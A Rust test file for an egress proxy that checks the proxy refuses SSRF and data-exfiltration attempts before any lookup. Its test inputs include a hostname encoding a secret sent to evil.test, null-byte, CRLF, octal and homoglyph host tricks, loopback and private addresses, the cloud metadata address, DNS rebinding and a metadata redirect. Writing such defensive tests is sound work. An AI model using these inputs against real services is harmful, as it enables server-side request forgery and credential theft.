//! Names and where they lead: judged before they are looked up, every address checked, connected to what was checked.

use placet_egress::Limits;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::world::{OK, Origin, World, heard, http_rule, refusal, rule};

/// A greeting and a request of SOCKS5 for a name.
fn socks_name(name: &[u8], port: u16) -> Vec<u8> {
    let mut said = vec![5, 1, 0, 5, 1, 0, 3, u8::try_from(name.len()).unwrap()];
    said.extend_from_slice(name);
    said.extend_from_slice(&port.to_be_bytes());
    said
}

/// The same for an address of this kind.
fn socks_address(kind: u8, octets: &[u8], port: u16) -> Vec<u8> {
    [&[5, 1, 0, 5, 1, 0, kind][..], octets, &port.to_be_bytes()].concat()
}

/// The code of the answer; the first two bytes answer the greeting.
async fn socks_code(world: &World, said: Vec<u8>) -> u8 {
    let mut stream = world.dial();
    stream.write_all(&said).await.unwrap();
    let mut answer = [0; 12];
    stream.read_exact(&mut answer).await.unwrap();
    assert_eq!(answer[..2], [5, 0]);
    answer[3]
}

#[tokio::test]
async fn r26_a_name_that_carries_a_secret_out_is_refused_before_it_is_looked_up() {
    let world = World::with(&rule("api.test", "https", 443));
    for to in ["c2VjcmV0.evil.test:443", "secret.api.test:443", "api.test.evil.test:443"] {
        let (line, _) = world.connect(to).await;
        assert!(line.starts_with("HTTP/1.1 403 "), "{line}");
    }
    world.get("http://c2VjcmV0.evil.test/").await;
    assert_eq!(socks_code(&world, socks_name(b"c2VjcmV0.evil.test", 443)).await, 2);
    let records = world.records(5).await;
    assert!(records.iter().all(|record| refusal(record) == 10 && record.address.is_none()), "{records:?}");
    assert_eq!(world.lookups(), 0, "nobody outside heard of the names");
}

#[tokio::test]
async fn r18_tricks_with_names_are_refused_however_they_come_in() {
    let origin = Origin::answering(OK).await;
    let world = World::with(&rule("api.test", "tcp", origin.port()));
    world.name("api.test", "127.0.0.1");
    let tricks: &[&[u8]] = &[
        b"api.test\0.evil.test",
        b"api.test.",
        b"api.test@evil.test",
        b"127.1",
        b"2130706433",
        b"0x7f000001",
        b"0177.0.0.1",
        b"api.test%00",
        b" api.test",
        b"api.test ",
        b"api.test\r\n",
        b"ap\xd1\x96.test",
        b"::1",
        b"",
    ];
    for trick in tricks {
        assert_eq!(socks_code(&world, socks_name(trick, origin.port())).await, 1, "{trick:?}");
    }
    assert!(world.records(tricks.len()).await.iter().all(|record| refusal(record) == 1));
    assert_eq!((world.lookups(), origin.connections()), (0, 0));
}

#[tokio::test]
async fn r18_addresses_in_every_dress_are_judged_as_addresses() {
    let world = World::with(&rule("api.test", "tcp", 443));
    let mapped = [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 127, 0, 0, 1];
    for said in [
        socks_address(1, &[127, 0, 0, 1], 443),
        socks_address(1, &[169, 254, 169, 254], 443),
        socks_address(4, &mapped, 443),
        socks_address(4, &std::net::Ipv6Addr::LOCALHOST.octets(), 443),
        socks_name(b"127.0.0.1", 443),
        socks_name(b"[::1]", 443),
    ] {
        assert_eq!(socks_code(&world, said).await, 2);
    }
    assert!(world.records(6).await.iter().all(|record| refusal(record) == 10));
}

#[tokio::test]
async fn an_allowed_name_that_leads_to_a_place_that_is_not_public_is_refused() {
    let world = World::with("[[allow]]\nhost = \"*.test\"\nspeaks = \"http\"\nports = [80]\n");
    let places = [
        "127.0.0.1",
        "10.0.0.1",
        "192.168.1.1",
        "172.16.0.1",
        "169.254.169.254",
        "100.64.0.1",
        "0.0.0.0",
        "::1",
        "::ffff:127.0.0.1",
        "::127.0.0.1",
        "64:ff9b::7f00:1",
        "2002:7f00:1::1",
        "fd00:ec2::254",
        "fe80::1",
        "fc00::1",
        "224.0.0.1",
        "ff02::1",
        "192.0.2.1",
        "2001:db8::1",
    ];
    for (index, place) in places.iter().enumerate() {
        let name = format!("h{index}.test");
        world.name(&name, place);
        let said = world.get(&format!("http://{name}/")).await;
        assert!(said.starts_with("HTTP/1.1 403 ") && said.contains("(E20)"), "{place}: {said}");
    }
    assert!(world.records(places.len()).await.iter().all(|record| refusal(record) == 20 && record.address.is_none()));
    assert!(world.before().is_empty(), "no connection was even announced");
}

#[tokio::test]
async fn one_bad_address_among_good_ones_spoils_the_answer() {
    let origin = Origin::answering(OK).await;
    let world = World::with(&http_rule("api.test", origin.port(), ""));
    world.name_answers("api.test", &[&["127.0.0.1", "169.254.169.254"]]);
    let said = world.get(&origin.url("api.test", "/")).await;
    assert!(said.contains("(E20)") && said.contains("169.254.169.254"), "{said}");
    assert_eq!(origin.connections(), 0);
}

#[tokio::test]
async fn r18_a_name_that_changes_its_answer_does_not_change_where_the_connection_goes() {
    let origin = Origin::answering(OK).await;
    let world = World::with(&http_rule("rebind.test", origin.port(), ""));
    world.name_answers("rebind.test", &[&["127.0.0.1"], &["169.254.169.254"]]);
    let said = world.get(&origin.url("rebind.test", "/")).await;
    assert!(said.ends_with("hello"), "{said}");
    assert_eq!(world.lookups(), 1, "checked and connected with one answer");
    let record = world.record().await;
    assert_eq!(record.address, Some(origin.address));
    let again = world.get(&origin.url("rebind.test", "/")).await;
    assert!(again.contains("(E20)"), "the second answer is checked like the first: {again}");
    assert_eq!(origin.connections(), 1);
}

#[tokio::test]
async fn a_redirect_to_the_metadata_service_is_a_new_request_and_refused() {
    let redirect = "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/\r\nContent-Length: 0\r\n\r\n";
    let origin = Origin::answering(redirect).await;
    let world = World::with(&http_rule("api.test", origin.port(), ""));
    world.name("api.test", "127.0.0.1");
    let said = world.get(&origin.url("api.test", "/")).await;
    let location = said.split("Location: ").nth(1).unwrap().lines().next().unwrap().to_owned();
    let followed = world.get(&location).await;
    assert!(followed.starts_with("HTTP/1.1 403 "), "{followed}");
    let records = world.records(2).await;
    assert_eq!((records[0].status, refusal(&records[1])), (Some(302), 10));
    assert_eq!(records[1].to.as_ref().unwrap().to_string(), "169.254.169.254:80");
}

#[tokio::test]
async fn ipv6_hosts_are_reached_where_their_network_is_listed() {
    let listener = tokio::net::TcpListener::bind("[::1]:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let _ = stream.write_all(b"v6").await;
        }
    });
    let world = World::with(&format!("[[allow]]\nhost = \"::1\"\nspeaks = \"tcp\"\nports = [{port}]\n"));
    let (line, mut stream) = world.connect(&format!("[::1]:{port}")).await;
    assert!(line.contains(" 200 "), "{line}");
    stream.shutdown().await.unwrap();
    assert_eq!(heard(&mut stream).await, "v6");
}

#[tokio::test]
async fn names_without_an_address_and_hosts_that_do_not_answer_are_trouble_and_no_refusal() {
    let (origin, listener) = Origin::bind().await;
    drop(listener);
    let world =
        World::with(&[http_rule("api.test", origin.port(), ""), rule("api.test", "tcp", origin.port())].concat());
    assert!(world.get(&origin.url("api.test", "/")).await.starts_with("HTTP/1.1 502 "));
    world.name("api.test", "127.0.0.1");
    assert!(world.get(&origin.url("api.test", "/")).await.contains("(E51)"));
    assert_eq!(socks_code(&world, socks_name(b"api.test", origin.port())).await, 5);
    let numbers: Vec<_> = world.records(3).await.into_iter().map(|record| record.ended.unwrap().number).collect();
    assert_eq!(numbers, [50, 51, 51]);
    assert!(world.wishes().is_empty(), "no rule is missing");
}

#[tokio::test]
async fn a_resolver_that_does_not_answer_is_not_waited_for() {
    struct Silent;
    impl placet_dial::Resolve for Silent {
        fn resolve<'a>(&'a self, _: &'a placet_domain::scope::Host) -> placet_dial::ResolveFuture<'a> {
            Box::pin(std::future::pending())
        }
    }
    let limits = Limits { resolve_ms: 50, ..Limits::default() };
    let kept = std::sync::Arc::new(super::world::Kept::default());
    let rules = super::world::rules(&http_rule("api.test", 80, ""));
    let egress = placet_egress::Egress::new(placet_egress::Live::new(rules), kept)
        .with_limits(limits)
        .with_resolver(std::sync::Arc::new(Silent));
    let (mut inside, outside) = tokio::io::duplex(1 << 16);
    tokio::spawn(async move { placet_egress::serve(outside, &egress).await });
    inside.write_all(super::world::get("http://api.test/").as_bytes()).await.unwrap();
    assert!(heard(&mut inside).await.starts_with("HTTP/1.1 504 "));
}
